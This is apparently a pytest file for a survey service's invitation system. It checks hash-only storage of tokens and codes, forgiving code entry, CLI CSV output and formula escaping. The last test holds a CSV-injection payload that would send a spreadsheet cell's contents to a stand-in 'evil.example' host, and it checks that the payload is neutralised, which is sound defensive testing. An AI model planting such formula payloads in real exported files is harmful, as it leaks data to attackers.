"""Issuing invitations: hashes only in the database, codes forgiving to type, and the CLI's CSV output."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

from sqlalchemy import select

from survey_service.db.engine import Database
from survey_service.db.models import Invitation
from survey_service.domain.invitations.services import (
    CODE_ALPHABET,
    code_hash,
    create_invitations,
    find_invitation,
    invitations_csv,
    read_strata,
    token_hash,
)
from tests.conftest import in_thread, migrate
from tests.helpers import invitations, open_survey
from tests.integration.test_cli import run


async def test_only_hashes_of_tokens_and_codes_are_stored(db: Database) -> None:
    survey = await open_survey(db, access="invitation")
    issued = await invitations(db, survey, 3)
    async with db.read() as session:
        rows = (await session.scalars(select(Invitation))).all()
    stored = {r.token_hash for r in rows} | {r.code_hash for r in rows if r.code_hash}
    for inv in issued:
        assert inv.token not in stored and inv.code not in stored
        assert token_hash(inv.token) in stored and code_hash(inv.code) in stored
    assert {r.status for r in rows} == {"unused"}


async def test_codes_are_found_however_they_are_typed(db: Database) -> None:
    survey = await open_survey(db, access="invitation")
    [inv] = await invitations(db, survey)
    typed = " " + inv.code.lower().replace("-", " ") + " "
    async with db.read() as session:
        found = await find_invitation(session, survey.id, code=typed)
        by_token = await find_invitation(session, survey.id, token=inv.token)
        wrong = await find_invitation(session, survey.id, code="AAAA-AAAA-AAAA")
    assert found is not None and by_token is not None and found.id == by_token.id
    assert wrong is None
    assert set(inv.code.replace("-", "")) <= set(CODE_ALPHABET) and len(inv.code) == 14


def test_cli_prints_token_code_link_and_strata_columns(tmp_path: Path) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'inv.db'}"
    migrate(url)

    async def prepare() -> None:
        db = Database(url)
        try:
            await open_survey(db, "letters-2026", access="invitation")
        finally:
            await db.dispose()

    in_thread(asyncio.run, prepare())
    strata = tmp_path / "strata.csv"
    strata.write_text("area,language,age_group\nnorth,fi,18_29\nsouth,ar,30_44\n", encoding="utf-8")
    env = {
        "SURVEY_DATABASE_URL": url,
        "SURVEY_PUBLIC_URL": "https://kysely.example.fi",
        "SURVEY_VAR_DIR": str(tmp_path),
    }
    result = run(["invitations", "create", "letters-2026", "--count", "2", "--strata", str(strata)], env)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert list(rows[0]) == ["token", "code", "link", "area", "language", "age_group"]
    assert [(r["area"], r["language"], r["age_group"]) for r in rows] == [
        ("north", "fi", "18_29"),
        ("south", "ar", "30_44"),
    ]
    assert rows[0]["link"] == f"https://kysely.example.fi/s/letters-2026?token={rows[0]['token']}"
    assert len({r["token"] for r in rows}) == 2

    plain = run(["invitations", "create", "letters-2026", "--count", "3"], env)
    assert plain.returncode == 0, plain.stderr
    assert plain.stdout.splitlines()[0] == "token,code,link" and len(plain.stdout.splitlines()) == 4

    mismatch = run(["invitations", "create", "letters-2026", "--count", "5", "--strata", str(strata)], env)
    assert mismatch.returncode == 1 and "count is 5 but the strata file has 2 rows" in mismatch.stderr
    missing = run(["invitations", "create", "nope", "--count", "1"], env)
    assert missing.returncode == 1 and "no survey 'nope'" in missing.stderr


async def test_strata_that_look_like_formulas_are_neutralised_in_the_invitations_csv(db: Database) -> None:
    survey = await open_survey(db, access="invitation")
    hostile = ['=HYPERLINK("https://evil.example/?"&A2)', "+1", "-1", "@SUM(A1)"]
    header, rows = read_strata("area\n" + "\n".join(f'"{v.replace(chr(34), chr(34) * 2)}"' for v in hostile) + "\n")
    async with db.write() as session:
        issued = await create_invitations(session, survey, len(rows), rows)
    table = list(csv.DictReader(io.StringIO(invitations_csv(issued, header, "https://kysely.example.fi", survey.slug))))
    assert sorted(r["area"] for r in table) == sorted("'" + v for v in hostile)
    assert all(not r["area"].startswith(("=", "+", "-", "@")) for r in table)
